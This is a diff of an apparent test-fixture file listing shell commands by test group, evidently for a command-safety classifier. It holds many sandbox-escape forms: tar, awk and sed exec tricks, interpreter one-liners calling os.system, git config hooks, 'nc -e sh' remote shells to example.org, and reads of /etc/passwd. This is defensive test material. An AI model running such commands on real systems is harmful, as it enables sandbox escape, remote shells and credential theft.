@@ -125,27 +125,14 @@ python a.py (x)
 jq .[0] (a)
 """,
     "TG310": r"""
-grep -E 'a|b' data.csv
-grep -E "a|b" data.csv
-egrep '(a|b)' data.csv
 echo 'a; b'
 echo "a & b"
 echo a\;b
 echo a\|b
 echo 'a > b'
 echo "<b>"
-find /in -exec cat {} \;
-find /in -exec cat {} ';'
-find /in '(' -name a -o -name b ')'
-curl 'https://example.org/?a=1&b=2'
-sort 'a;b'
-tr ';' ','
-cut -d ';' -f 1 data.csv
-cut '-d|' -f1 data.csv
 git log --format='%h (%an)'
 timeout 5 echo 'a;b'
-date '+%H;%M'
-printf '(%s)' a
 xargs -a /in/a echo 'a;b'
 """,
     "TG311": r"""
@@ -177,15 +164,17 @@ a:b
 a,b
 %1
 é
-env ./a
-timeout 5 ./a.py
-nice /tmp/a
-xargs ./a
-find /in -exec ./a {} +
 //usr/bin/python
 /USR/bin/python
 """,
     "TG312": r"""
+coreutils --coreutils-prog=env sh
+coreutils --coreutils-prog env sh
+git shell
+env sort a sh
+find /in -name a -exec bash a {} \;
+tar -xf a.tar --use-compress-program=bash
+xargs -I{} dash {}
 sh
 bash
 bash a.sh
@@ -269,11 +258,6 @@ taskset -c 0,1 bash
 chrt -f 1 sh
 flock /tmp/l sh
 flock -n /tmp/l bash a
-flock /tmp/l -c id
-flock -n /tmp/l -c 'id'
-flock -w 5 /tmp/l --command id
-flock -c id /tmp/l
-flock --command=id /tmp/l
 prlimit --nofile=5 sh
 prlimit -n5 sh
 choom -n 5 sh
@@ -290,7 +274,6 @@ strace -f sh
 strace -ff -o /out/t sh
 strace -e trace=open sh
 strace -E A=b sh
-strace -o '!id' ls
 ltrace sh
 time sh
 time -p sh
@@ -353,156 +336,19 @@ ld.so /in/a
 ld-linux-aarch64.so.1 a
 ld-2.36.so a
 env ld-linux-x86-64.so.2 sh
-tar -xf a.tar --to-command=id
-tar -xf a.tar --to-command id
-tar --to-com=id -xf a.tar
-tar -cf /out/a --checkpoint=1 --checkpoint-action=exec=id a
-tar -cf /out/a --checkpoint=1 --checkpoint-action exec=id a
-tar -cf /out/a --checkpoint-a=exec=id a
-tar -xF id -f a.tar
-tar -xf a.tar -F id
-tar --info-script=id -xf a.tar
-tar --new-volume-script=id -cf /out/a a
-tar --rsh-command=id -xf a:b
-tar --rmt-command=id -xf a:b
 tar -I sh -xf a.tar
 tar -Ibash -xf a.tar
 tar --use-compress-program='sh -c id' -xf a.tar
 tar --use-compress-program=bash -xf a.tar
 tar xIf sh a.tar
-tar xFf id a.tar
-split --filter=id a
-split --filter 'id' a
-split --filt=id a
-awk 'BEGIN {system("id")}'
-awk 'BEGIN { system ("id") }'
-awk 'BEGIN {"id" | getline x; print x}'
-awk '{print | "id"}' a
-awk '{print $0 | "sh"}' a
-awk '{print |& "id"}' a
-awk -e 'BEGIN {system("id")}'
-gawk --source 'BEGIN {system("id")}'
-mawk 'BEGIN {system("id")}'
-awk -F: -v a=b 'BEGIN {system(a)}'
-awk '/a/ {system("id")}' a
-awk '{x = $1/2; system("id")}' a
-awk 'BEGIN{printf "a" | "cat"}'
-sed '1e id' a
-sed 'e id' a
-sed 's/a/id/e' a
-sed 's/a/id/ge' a
-sed -n '/a/e id' a
-sed -e p -e 'e id' a
-sed --expression='s/a/b/e' a
-sed 's|a|b|e' a
-sed '1,3{e id' a
-sed '$!e id' a
-sed 's/[/]/x/e' a
-python -c 'import os; os.system("id")'
-python3 -c 'import os; os.popen("id").read()'
-python -c 'import os as o; o.system("id")'
-python -c 'from os import system; system("id")'
-python -c 'from os import system as s; s("id")'
-python -c '__import__("os").system("id")'
-python -c 'import importlib; importlib.import_module("os").system("id")'
-python -c 'import os; getattr(os, "system")("id")'
-python -c 'import subprocess; subprocess.run("id", shell=True)'
-python -c 'import subprocess as s; s.Popen("id", shell=1)'
-python -c 'from subprocess import call; call("id", shell=True)'
-python -c 'import subprocess; print(subprocess.getoutput("id"))'
-python -c 'import subprocess; subprocess.run(["sh", "-c", "id"])'
-python -c 'import subprocess; subprocess.run(["/usr/bin/bash", "-c", "id"])'
-python -c 'import subprocess; subprocess.run(args=["env", "bash"], shell=False) or subprocess.run(["env", "bash"])'
-python -c 'import os; os.execvp("sh", ["sh"])'
-python -c 'import os; os.execl("/usr/bin/sh", "sh", "-c", "id")'
-python -c 'import os; os.spawnlp(os.P_WAIT, "bash", "bash")'
-python -c 'import os; os.posix_spawn("/usr/bin/sh", ["sh"], {})'
-python -c 'import pty; pty.spawn("sh")'
-python -c 'import asyncio; asyncio.create_subprocess_shell("id")'
-python -c 'exec("import os; os.system(\"id\")")'
-python -c 'eval("__import__(\"os\").system(\"id\")")'
-python -c 'import os; s = os.system; s("id")'
-python -c 'import os; vars(os)["system"]("id")'
-python -c 'import os; os.__dict__["system"]("id")'
-python -c 'import sys; sys.modules["os"].system("id")'
-python -c 'import ctypes; ctypes.CDLL(None).system(b"id")'
-python -c 'import os; list(map(os.system, ["id"]))'
-python -c 'o = __import__("os"); o.system("id")'
-python -c 'import importlib; m = importlib.import_module("subprocess"); m.run(["sh"])'
-python -c 'from importlib import import_module as i; i("os").popen("id")'
-python -c 'import posix; posix.system("id")'
-python -c 'import subprocess; subprocess.run(args=["bash", "-c", "id"])'
-python -c 'import subprocess; subprocess.run(args="bash")'
-python -c 'import subprocess; r = subprocess.run; r(["bash"])'
-python -c 'import subprocess; subprocess.run("bash")'
-python -c 'import asyncio; asyncio.create_subprocess_exec("sh", "-c", "id")'
-python -c 'import os; os.execve("/usr/bin/bash", ["x"], {})'
-python -c 'eval(compile("import os\nos.system(1)", "", "exec"))'
-python -c 'import subprocess as s; s.run(["timeout", "5", "bash"])'
-python -c 'getattr(__import__("os"), "popen")("id")'
-python -Bc 'import os; os.system("id")'
-python -uIc 'import os; os.system("id")'
-python -W ignore -c 'import os; os.system("id")'
-python -X dev -c 'import os; os.system("id")'
-python3.11 -c 'import os; os.system("id")'
-python -m timeit 'import os; os.system("id")'
-timeout 5 python -c 'import os; os.system("id")'
-perl -e 'system("id")'
-perl -e 'system "id"'
-perl -e 'exec "id"'
-perl -e 'print qx/id/'
-perl -ne 'system($_)' a
-perl -lane 'system(@F)' a
-perl -E 'open(F, "id|")'
-perl -e 'open F, "|id"'
-perl -e 'open(my $f, "-|", "id")'
-ruby -e 'system("id")'
-ruby -e 'exec "id"'
-ruby -e 'puts %x(id)'
-ruby -e 'IO.popen("id")'
-ruby -ropen3 -e 'Open3.capture2("id")'
-ruby -e 'spawn("id")'
-node -e 'require("child_process").execSync("id")'
-node --eval 'require("child_process")'
-node --eval='require("child_process")'
-node -p 'require("child_process").execSync("id")'
-node -pe 'require("child_process").execSync("id")'
-php -r 'system("id");'
-php -r 'echo shell_exec("id");'
-php -r 'passthru("id");'
-php -r 'proc_open("id", [], $p);'
-lua -e 'os.execute("id")'
-lua -e 'io.popen("id")'
-lua5.4 -e 'os.execute("id")'
-Rscript -e 'system("id")'
-Rscript -e 'system2("id")'
-Rscript -e 'pipe("id")'
-pdflatex -shell-escape a.tex
 nc -e sh example.org 80
 nc -lve sh
 nc -esh example.org 80
 rsync -ae 'sh -c id' a b
 rsync -aze sh a b
-socat - EXEC:id
-socat - SYSTEM:id
-socat exec:id -
-python -c 'print "a"; import os; os.system("id")'
-python3.11-dbg -c 'import os; os.system("id")'
-ipython -c 'import os; os.system("id")'
-sed --expr='1e id' a
-sed --expr 's/a/b/e' a
-sed --expression 's/a/b/e' a
-sed -ne 's/a/b/e' a
-sed '/a/,/b/e id' a
-sed '\,a,e id' a
-sed '0~3e id' a
-sed 'p;e' a
-sed -n '$!{s/a/b/;e id}' a
-gawk --sour='BEGIN {system("id")}'
 busybox sh -c id
 busybox timeout 5 sh
 setarch x86_64 -R bash
-ncat --sh-exec id example.org 80
 """,
     "TG313": r"""
 sudo ls
@@ -545,7 +391,6 @@ newgrp a
 setcap a b
 pivot_root a b
 busybox su
-python -c 'import subprocess; subprocess.run(["sudo", "ls"])'
 strace sudo ls
 """,
     "TG314": r"""
@@ -596,7 +441,6 @@ nohup kubectl get a
 xargs docker rm
 find /in -exec docker cp {} a +
 /usr/bin/docker ps
-python -c 'import subprocess; subprocess.call(["docker", "ps"])'
 nice -n 3 env -i qemu-system-arm a
 """,
     "TG315": r"""
@@ -783,6 +627,7 @@ nice mknod a b 1 2
 find /in -exec mount {} +
 """,
     "TG317": r"""
+xargs -I {} /usr/bin/{}
 cat /etc/passwd
 cat //etc/passwd
 cat /./etc/passwd
@@ -957,145 +802,6 @@ find .. -name a
 sed p ../a
 awk '{print}' ../a
 ls /in/a/../..
-""",
-    "TG320": r"""
-env -S 'python a.py'
-coreutils --coreutils-prog=env sh
-coreutils --coreutils-prog env sh
-env -S python
-env -S'python a.py'
-env -iS 'python a.py'
-env --split-string='python a.py'
-env --split-string 'python a.py'
-env --unknown python a.py
-env -q python a.py
-timeout --what 5 python a.py
-timeout -z 5 python a.py
-nice --what python a.py
-xargs env
-xargs timeout 5
-xargs nice
-xargs -n 1 env
-xargs -I{} {}
-xargs -I{} {} a
-xargs -I {} /usr/bin/{}
-xargs -i {}
-xargs --replace={} {}
-xargs -IX X
-xargs xargs
-xargs busybox
-find /in -exec {} +
-find /in -exec env {} + -exec {} +
-find /in -exec
-strace --what ls
-env -S python a.py b
-env -S "a'" x
-env --unset
-env -u
-nice -n
-nice --adjustment
-xargs timeout
-xargs python -c
-xargs -n 1 python3 -m
-xargs -I{} python -c {}
-xargs perl -e
-xargs sed -e
-find /in -exec python -m {} +
-setarch x86_64 --what ls
-busybox --list
-stdbuf --what ls
-env env env env env env env env env env env ls
-nice nice nice nice nice nice nice nice nice nice ls
-flock --what /tmp/l ls
-""",
-    "TG321": r"""
-git -c core.pager=x log
-git -c core.editor=x commit
-git -c core.sshCommand=x fetch
-git -c core.fsmonitor=x status
-git -c core.hooksPath=/in/a commit
-git -c alias.x=!id x
-git -calias.x=y x
-git -c diff.external=x diff
-git -c diff.a.textconv=x diff
-git -c filter.a.clean=x add
-git -c credential.helper=x fetch
-git -c gpg.program=x log
-git -c include.path=/in/a log
-git -c pager.log=x log
-git -c sequence.editor=x rebase
-git -c protocol.ext.allow=always fetch
-git -c merge.a.driver=x merge
-git -c uploadpack.packObjectsHook=x log
-git -C /in/a -c core.pager=x log
-git --git-dir=/in/a/.git -c core.pager=x log
-git --config-env=core.pager=A log
-git --config-env core.pager=A log
-git --exec-path=/in/a log
-git -p log
-git --paginate log
-git grep -Oless a
-git grep --open-files-in-pager=x a
-git grep --open-files a
-git rebase -x id a
-git rebase --exec id a
-git rebase --exe=id a
-git bisect run ls
-git submodule foreach ls
-git filter-branch --tree-filter ls
-git difftool -x id
-git difftool --extcmd=id
-git mergetool
-git clone -u id a b
-git clone --upload-pack=id a b
-git clone --upload-pack id a b
-git clone -c core.pager=x a b
-git clone --config core.pager=x a b
-git clone --template=/in/a b c
-git fetch --upload-pack=id a
-git ls-remote --upload-pack=id a
-git push --receive-pack=id a
-git push --exec=id a
-git clone ext::id a
-git fetch ext::id
-git archive --exec=id --remote=a b
-git diff --ext-diff
-git log --textconv
-git config core.pager x
-git config alias.x y
-git send-email a
-git instaweb
-git daemon
-git shell
-git help log
-env git -c core.pager=x log
-sort --compress-program=x data.csv
-sort --compress-program x data.csv
-sort --compress-prog=x data.csv
-sort --comp=x data.csv
-tar -I x -xf a.tar
-tar -Ix -xf a.tar
-tar --use-compress-program=x -xf a.tar
-tar --use-compress-program x -xf a.tar
-rsync -e x a b
-rsync --rsh=x a b
-vim -c x a
-gdb -ex x a
-man -P x a
-rg --pre x a
-wget --use-askpass=x https://example.org
-gawk -l x 'BEGIN {}'
-gawk -lx 'BEGIN {}'
-tar -I '' -xf a.tar
-tar -xf a.tar -I
-tar -I "a'" -xf a.tar
-tar --to-nothing=x -xf a.tar
-tar -xYI x -f a.tar
-gawk --load=x 'BEGIN {}'
-ssh -o ProxyCommand=x a
-scp -oProxyCommand=x a b
-nc -e x example.org 80
-fd -x cat
 """,
 }
 
